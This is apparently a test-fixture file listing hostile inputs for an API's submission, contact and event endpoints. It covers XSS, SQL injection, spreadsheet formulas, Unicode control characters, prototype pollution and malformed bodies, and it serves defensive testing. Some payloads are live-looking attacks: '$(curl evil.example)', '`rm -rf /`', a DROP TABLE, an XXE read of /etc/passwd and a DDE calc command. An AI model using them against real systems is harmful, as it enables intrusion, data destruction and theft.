/**
 * Hostile input for every write endpoint (submissions, contact, early access, events), used by the API test
 * suite and available to e2e checks of the pages. Written with escapes only: the file itself holds no control or
 * bidi character. Each payload must be refused with a 4xx and no row, or be stored as inert, normalised text.
 */

/** What a required single-line text field (a name) does with the text, where that is certain. */
export type NameOutcome = 'reject' | 'store';

export interface HostileText {
  label: string;
  value: string;
  name?: NameOutcome;
}

const t = (label: string, value: string, name?: NameOutcome): HostileText => ({ label, value, name });

const XSS: HostileText[] = [
  t('script tag', '<script>alert(1)</script>', 'store'),
  t('img onerror', '"><img src=x onerror=alert(1)>', 'store'),
  t('svg onload', '<svg/onload=alert(document.domain)>', 'store'),
  t('javascript URL', 'javascript:alert(1)', 'store'),
  t('data URL', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'store'),
  t('iframe srcdoc', '<iframe srcdoc="<script>parent.alert(1)</script>">', 'store'),
  t('closing textarea', '</textarea><script>alert(1)</script>', 'store'),
  t('closing title', '</title><script>alert(1)</script>', 'store'),
  t('closing script in JSON', '</script><script>alert(1)</script>', 'store'),
  t('html comment', '<!--<script>-->alert(1)', 'store'),
  t('CDATA', ']]><script>alert(1)</script>', 'store'),
  t('template injection', '{{constructor.constructor("alert(1)")()}}', 'store'),
  t('JSX-like', '${alert(1)}', 'store'),
  t('event attribute', '" autofocus onfocus="alert(1)', 'store'),
  t('single-quote attribute', "' onmouseover='alert(1)", 'store'),
  t('style expression', '<div style="background:url(javascript:alert(1))">', 'store'),
  t('meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', 'store'),
  t('base href', '<base href="https://evil.example/">', 'store'),
  t('form action', '<form action="https://evil.example"><button>Go</button></form>', 'store'),
  t('entity-encoded script', '&lt;script&gt;alert(1)&lt;/script&gt;', 'store'),
  t('numeric entities', '&#60;script&#62;alert(1)&#60;/script&#62;', 'store'),
  t('markdown link', '[click](javascript:alert(1))', 'store'),
  t('markdown image', '![x](https://evil.example/track.gif)', 'store'),
  t('unicode-escaped script', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', 'store'),
  t('mixed-case tag', '<ScRiPt>alert(1)</sCrIpT>', 'store'),
  t('vbscript', 'vbscript:msgbox(1)', 'store'),
  t('dangling markup', '<img src="https://evil.example/?', 'store'),
  t('JSON breaking', '"},"status":"approved","x":{"', 'store'),
];

const SQL: HostileText[] = [
  t('or 1=1', "' OR 1=1 --", 'store'),
  t('drop table', "'; DROP TABLE submissions; --", 'store'),
  t('delete', '1; DELETE FROM tools', 'store'),
  t('union select', "' UNION SELECT email, name FROM contact_messages --", 'store'),
  t('double-quote or', '" OR ""="', 'store'),
  t('comment', "admin'--", 'store'),
  t('stacked update', "x'); UPDATE submissions SET status='approved' WHERE ('1'='1", 'store'),
  t('attach database', "'; ATTACH DATABASE '/tmp/x.db' AS x; --", 'store'),
  t('load extension', "' || load_extension('x') || '", 'store'),
  t('sleep', "1' AND randomblob(1000000000) --", 'store'),
  t('pragma', "'; PRAGMA writable_schema=1; --", 'store'),
  t('hex literal', "X'00'", 'store'),
  t('backslash quote', "\\' OR 1=1 -- ", 'store'),
  t('percent wildcard', '%_%', 'store'),
  t('NUL then SQL', "\u0000' OR 1=1", 'reject'),
];

const SPREADSHEET: HostileText[] = [
  t('formula', '=1+1', 'store'),
  t('hyperlink formula', '=HYPERLINK("https://evil.example","click")', 'store'),
  t('DDE', "+cmd|' /C calc'!A0", 'store'),
  t('minus formula', '-2+3', 'store'),
  t('at formula', '@SUM(A1:A9)', 'store'),
  t('semicolon list', 'x;=1+1;@SUM(A1)', 'store'),
  t('comma list', 'x,=1+1,+2', 'store'),
  t('formula on a second line', 'ok\n=1+1', 'reject'),
  t('leading tab (trimmed)', '\t=1+1', 'store'),
  t('leading CR (trimmed)', '\r=1+1', 'store'),
  t('inner tab', 'x\t=1+1', 'reject'),
  t('importxml', '=IMPORTXML("https://evil.example","//a")', 'store'),
  t('quoted formula', '"=1+1"', 'store'),
];

const UNICODE: HostileText[] = [
  t('NUL', 'Acme\u0000AI', 'reject'),
  t('only NUL', '\u0000', 'reject'),
  t('ESC clear screen', 'evil\u001b[2J', 'reject'),
  t('ESC colour', '\u001b[31mred\u001b[0m', 'reject'),
  t('OSC 8 link', '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007', 'reject'),
  t('OSC title', '\u001b]0;pwned\u0007', 'reject'),
  t('C1 CSI', 'x\u009b2J', 'reject'),
  t('C1 OSC', 'x\u009d0;t\u009c', 'reject'),
  t('carriage return overwrite', 'legit tool\r#1 [approved] fake', 'reject'),
  t('line feed', 'two\nlines', 'reject'),
  t('CR LF', 'two\r\nlines', 'reject'),
  t('tab', 'tab\there', 'reject'),
  t('vertical tab', 'v\u000btab', 'reject'),
  t('form feed', 'f\u000cfeed', 'reject'),
  t('backspace', 'abc\b\b\bxyz', 'reject'),
  t('bell', 'ding\u0007', 'reject'),
  t('DEL', 'del\u007f', 'reject'),
  t('line separator', 'a\u2028b', 'reject'),
  t('paragraph separator', 'a\u2029b', 'reject'),
  t('RLO', 'abc\u202Etxt.exe', 'reject'),
  t('LRO', '\u202Dabc', 'reject'),
  t('RLE', '\u202Babc', 'reject'),
  t('LRE', '\u202Aabc', 'reject'),
  t('PDF', 'abc\u202C', 'reject'),
  t('LRI', '\u2066abc\u2069', 'reject'),
  t('RLI', '\u2067abc\u2069', 'reject'),
  t('FSI', '\u2068abc\u2069', 'reject'),
  t('PDI alone', 'abc\u2069', 'reject'),
  t('lone high surrogate', 'a\uD83D', 'reject'),
  t('lone low surrogate', '\uDE00b', 'reject'),
  t('reversed surrogates', '\uDE00\uD83D', 'reject'),
  t('only zero-width space', '\u200B', 'reject'),
  t('only zero-width joiners', '\u200C\u200D\u200C', 'reject'),
  t('only BOM', '\uFEFF', 'reject'),
  t('only word joiner', '\u2060\u2060', 'reject'),
  t('only Hangul filler', '\u3164', 'reject'),
  t('only halfwidth Hangul filler', '\uFFA0', 'reject'),
  t('only braille blank', '\u2800\u2800', 'reject'),
  t('only combining marks', '\u0301\u0308\u0327', 'reject'),
  t('only variation selectors', '\uFE0F\uFE0E', 'reject'),
  t('only soft hyphen', '\u00AD', 'reject'),
  t('only no-break spaces', '\u00A0\u2007\u202F', 'reject'),
  t('only ideographic space', '\u3000', 'reject'),
  t('only LRM/RLM', '\u200E\u200F', 'reject'),
  t('zero-width inside a name', 'Ac\u200Bme', 'reject'),
  t('LRM inside a name', 'Acme\u200E AI', 'reject'),
  t('decomposed accent (NFD)', 'Cafe\u0301', 'store'),
  t('Hangul jamo (NFD)', '\u1112\u1161\u11AB', 'store'),
  t('Angstrom sign', '\u212B', 'store'),
  t('compatibility ligature', '\uFB01nd', 'store'),
  t('fullwidth letters', '\uFF21\uFF43\uFF4D\uFF45', 'store'),
  t('fullwidth equals formula', '\uFF1D1+1', 'store'),
  t('Cyrillic homoglyph', '\u0410cme', 'store'),
  t('Hebrew', '\u05E9\u05DC\u05D5\u05DD', 'store'),
  t('Arabic', '\u0645\u0631\u062D\u0628\u0627', 'store'),
  t('mixed direction', 'Acme \u05E9\u05DC\u05D5\u05DD 2', 'store'),
  t('emoji', '\u{1F680} Rocket', 'store'),
  t('ZWJ emoji', '\u{1F469}\u200D\u{1F4BB} Dev', 'store'),
  t('flag', '\u{1F1FA}\u{1F1F8}', 'store'),
  t('astral CJK', '\u{20BB7}\u91CE\u5BB6', 'store'),
  t('zalgo', 'Z\u0351\u0357\u035B\u0363a\u0364\u036Bl\u0352g\u0350o', 'store'),
  t('combining flood', 'a' + '\u0301'.repeat(90), 'store'),
  t('math alphanumerics', '\u{1D400}\u{1D401}\u{1D402}', 'store'),
  t('private use', '\uE000\uF8FF', 'store'),
  t('noncharacter', 'x\uFFFE\uFFFF', 'store'),
  t('replacement char', '\uFFFD\uFFFD', 'store'),
  t('interlinear annotation', '\uFFF9a\uFFFAb\uFFFB', 'reject'),
  t('tag characters', 'x\u{E0041}\u{E0042}', 'reject'),
  t('object replacement', '\uFFFC', 'store'),
  t('surrounding spaces', '   padded   ', 'store'),
  t('surrounding no-break spaces', '\u00A0padded\u00A0', 'store'),
];

const SHAPES: HostileText[] = [
  t('empty', '', 'reject'),
  t('spaces', '     ', 'reject'),
  t('name at its limit', 'n'.repeat(100), 'store'),
  t('name over its limit', 'n'.repeat(101), 'reject'),
  t('15,000 characters', 'x'.repeat(15_000), 'reject'),
  t('30,000 characters (over the body limit)', 'y'.repeat(30_000), 'reject'),
  t('100 emoji (200 code units)', '\u{1F600}'.repeat(100), 'reject'),
  t('50 emoji (100 code units)', '\u{1F600}'.repeat(50), 'store'),
  t('path traversal', '../../../../etc/passwd', 'store'),
  t('windows path', '..\\..\\windows\\win.ini', 'store'),
  t('file URL', 'file:///etc/passwd', 'store'),
  t('header injection', 'x\r\nSet-Cookie: a=b', 'reject'),
  t('encoded CRLF', 'x%0d%0aSet-Cookie:%20a=b', 'store'),
  t('log forging', 'ok"}\n{"level":50,"msg":"forged"', 'reject'),
  t('format string', '%s%s%s%n%x', 'store'),
  t('prototype words', '__proto__', 'store'),
  t('constructor word', 'constructor', 'store'),
  t('JSON text', '{"a":1}', 'store'),
  t('null word', 'null', 'store'),
  t('undefined word', 'undefined', 'store'),
  t('number text', '1e309', 'store'),
  t('backticks', '`rm -rf /`', 'store'),
  t('shell substitution', '$(curl evil.example)', 'store'),
  t('LDAP', '*)(uid=*))(|(uid=*', 'store'),
  t('XPath', "' or '1'='1", 'store'),
  t('NoSQL operator text', '{"$gt": ""}', 'store'),
  t('email lookalike', 'a@b.co', 'store'),
  t('url lookalike', 'https://evil.example/?q=<script>', 'store'),
];

/** Text payloads: put into each text field of each endpoint. */
export const HOSTILE_TEXTS: HostileText[] = [...XSS, ...SQL, ...SPREADSHEET, ...UNICODE, ...SHAPES];

/** Values of the wrong JSON type: put into each field of each endpoint. */
export const HOSTILE_VALUES: { label: string; value: unknown }[] = [
  { label: 'number', value: 123 },
  { label: 'negative number', value: -1 },
  { label: 'huge number', value: 1e308 },
  { label: 'true', value: true },
  { label: 'false', value: false },
  { label: 'null', value: null },
  { label: 'empty array', value: [] },
  { label: 'array of text', value: ['Acme', 'AI'] },
  { label: 'empty object', value: {} },
  { label: 'NoSQL operator', value: { $gt: '' } },
  { label: 'object with toString', value: { toString: 'x', valueOf: 1 } },
  { label: 'nested arrays', value: [[[[[['deep']]]]]] },
];

export interface HostileBody {
  label: string;
  /** The Content-Type header sent; none when null. */
  contentType: string | null;
  /** The raw body, built from a valid body of the endpoint. */
  body: (valid: Record<string, unknown>) => string;
}

const json = 'application/json';
const spread = (valid: Record<string, unknown>) => JSON.stringify(valid).slice(1, -1);
const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

/** Whole bodies: pollution, duplicate keys, wrong shapes, wrong content types, huge and nested. */
export const HOSTILE_BODIES: HostileBody[] = [
  // Prototype pollution
  {
    label: '__proto__ with status',
    contentType: json,
    body: (v) => `{"__proto__":{"status":"approved","isAdmin":true},${spread(v)}}`,
  },
  {
    label: 'constructor.prototype',
    contentType: json,
    body: (v) => `{"constructor":{"prototype":{"polluted":true}},${spread(v)}}`,
  },
  { label: '__proto__ as the only key', contentType: json, body: () => '{"__proto__":{"polluted":true}}' },
  {
    label: 'nested __proto__',
    contentType: json,
    body: (v) => `{${spread(v)},"data":{"__proto__":{"polluted":true}}}`,
  },
  { label: 'prototype key', contentType: json, body: (v) => `{"prototype":{"polluted":true},${spread(v)}}` },
  {
    label: 'status and id set by the client',
    contentType: json,
    body: (v) => `{${spread(v)},"status":"approved","id":1,"tool_slug":"cursor","created_at":"1970-01-01"}`,
  },
  {
    label: 'hasOwnProperty overridden',
    contentType: json,
    body: (v) => `{${spread(v)},"hasOwnProperty":"x","toString":"y"}`,
  },
  // Duplicate keys: JSON.parse keeps the last
  {
    label: 'duplicate key, hostile first',
    contentType: json,
    body: (v) => `{"name":"<script>alert(1)</script>","email":"x","event":"click",${spread(v)}}`,
  },
  {
    label: 'duplicate key, hostile last',
    contentType: json,
    body: (v) => `{${spread(v)},"name":"\\u0000","email":"nope","event":"click"}`,
  },
  { label: 'duplicate key, same value', contentType: json, body: (v) => `{${spread(v)},${spread(v)}}` },
  {
    label: 'duplicate idempotency key field',
    contentType: json,
    body: (v) => `{"idempotencyKey":"first-key-0001",${spread(v)},"idempotencyKey":"bad key"}`,
  },
  // Wrong shapes
  { label: 'array body', contentType: json, body: (v) => JSON.stringify([v]) },
  { label: 'empty array', contentType: json, body: () => '[]' },
  { label: 'string body', contentType: json, body: () => '"hello"' },
  { label: 'number body', contentType: json, body: () => '42' },
  { label: 'null body', contentType: json, body: () => 'null' },
  { label: 'true body', contentType: json, body: () => 'true' },
  { label: 'empty object', contentType: json, body: () => '{}' },
  { label: 'empty body', contentType: json, body: () => '' },
  { label: 'whitespace body', contentType: json, body: () => '   \n  ' },
  { label: 'truncated JSON', contentType: json, body: (v) => JSON.stringify(v).slice(0, -3) },
  { label: 'trailing garbage', contentType: json, body: (v) => `${JSON.stringify(v)}xyz` },
  { label: 'two documents', contentType: json, body: (v) => `${JSON.stringify(v)}${JSON.stringify(v)}` },
  { label: 'single quotes', contentType: json, body: () => "{'name':'x'}" },
  { label: 'comments', contentType: json, body: (v) => `/* hi */${JSON.stringify(v)}` },
  { label: 'NaN', contentType: json, body: () => '{"name":NaN}' },
  { label: 'trailing comma', contentType: json, body: (v) => `{${spread(v)},}` },
  { label: 'BOM before JSON', contentType: json, body: (v) => `\uFEFF${JSON.stringify(v)}` },
  { label: 'raw NUL in JSON', contentType: json, body: () => '{"name":"a\u0000"}' },
  { label: 'raw control in JSON string', contentType: json, body: () => '{"email":"a\u0001@b.co"}' },
  { label: 'invalid UTF-8 bytes as latin1', contentType: json, body: () => '{"name":"\u00ff\u00fe"}' },
  {
    label: 'escaped lone surrogate',
    contentType: json,
    body: (v) => `{${spread(v)},"name":"\\ud800","email":"\\udfff@b.co","data":{"x":"\\ud800"}}`,
  },
  {
    label: 'escaped NUL',
    contentType: json,
    body: (v) => `{${spread(v)},"name":"\\u0000","email":"a\\u0000@b.co","data":{"x":"\\u0000"}}`,
  },
  {
    label: 'escaped bidi override',
    contentType: json,
    body: (v) => `{${spread(v)},"name":"a\\u202eb","email":"a\\u202e@b.co","data":{"x":"\\u202e"}}`,
  },
  // Wrong content types
  { label: 'no content type', contentType: null, body: (v) => JSON.stringify(v) },
  { label: 'text/plain', contentType: 'text/plain', body: (v) => JSON.stringify(v) },
  { label: 'text/html', contentType: 'text/html', body: () => '<script>alert(1)</script>' },
  {
    label: 'application/xml',
    contentType: 'application/xml',
    body: () => '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  },
  {
    label: 'form-urlencoded',
    contentType: 'application/x-www-form-urlencoded',
    body: () => 'name=Acme&email=a%40b.co&website_url=https%3A%2F%2Fa.b&subject=other&message=hi',
  },
  {
    label: 'form-urlencoded pollution',
    contentType: 'application/x-www-form-urlencoded',
    body: () => '__proto__[status]=approved&constructor[prototype][x]=1',
  },
  {
    label: 'multipart',
    contentType: 'multipart/form-data; boundary=x',
    body: () => '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nAcme\r\n--x--\r\n',
  },
  { label: 'json in another charset', contentType: 'application/json; charset=utf-16', body: (v) => JSON.stringify(v) },
  {
    label: 'json with a made-up charset',
    contentType: 'application/json; charset=<script>',
    body: (v) => JSON.stringify(v),
  },
  { label: 'vendor json type', contentType: 'application/vnd.api+json', body: (v) => JSON.stringify(v) },
  { label: 'octet-stream', contentType: 'application/octet-stream', body: (v) => JSON.stringify(v) },
  { label: 'csv', contentType: 'text/csv', body: () => 'name,email\n=1+1,a@b.co' },
  {
    label: 'content type with junk parameters',
    contentType: 'application/json; boundary=";;;"; x=<',
    body: (v) => JSON.stringify(v),
  },
  // Huge and nested
  { label: 'body of 1 MB', contentType: json, body: (v) => JSON.stringify({ ...v, pad: 'p'.repeat(1_000_000) }) },
  {
    label: 'body just over 32 kB',
    contentType: json,
    body: (v) => JSON.stringify({ ...v, pad: 'p'.repeat(33 * 1024) }),
  },
  { label: 'arrays nested 3,000 deep', contentType: json, body: () => `{"name":${nested(3000)}}` },
  { label: 'arrays nested 100,000 deep', contentType: json, body: () => `{"name":${nested(100_000)}}` },
  { label: 'objects nested 1,000 deep', contentType: json, body: () => `${'{"a":'.repeat(1000)}1${'}'.repeat(1000)}` },
  {
    label: 'a thousand unknown keys',
    contentType: json,
    body: (v) => JSON.stringify({ ...Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`k${i}`, i])), ...v }),
  },
  { label: 'long key', contentType: json, body: (v) => JSON.stringify({ ['k'.repeat(5000)]: 1, ...v }) },
  { label: 'many escapes', contentType: json, body: () => `{"name":"${'\\u0041'.repeat(3000)}"}` },
  { label: 'huge number literal', contentType: json, body: (v) => `{${spread(v)},"n":${'9'.repeat(5000)}}` },
  {
    label: 'deep data object for events',
    contentType: json,
    body: () =>
      `{"event":"tool_page_view","timestamp":"2026-11-23T10:00:00Z","data":${'{"a":'.repeat(200)}1${'}'.repeat(200)}}`,
  },
];
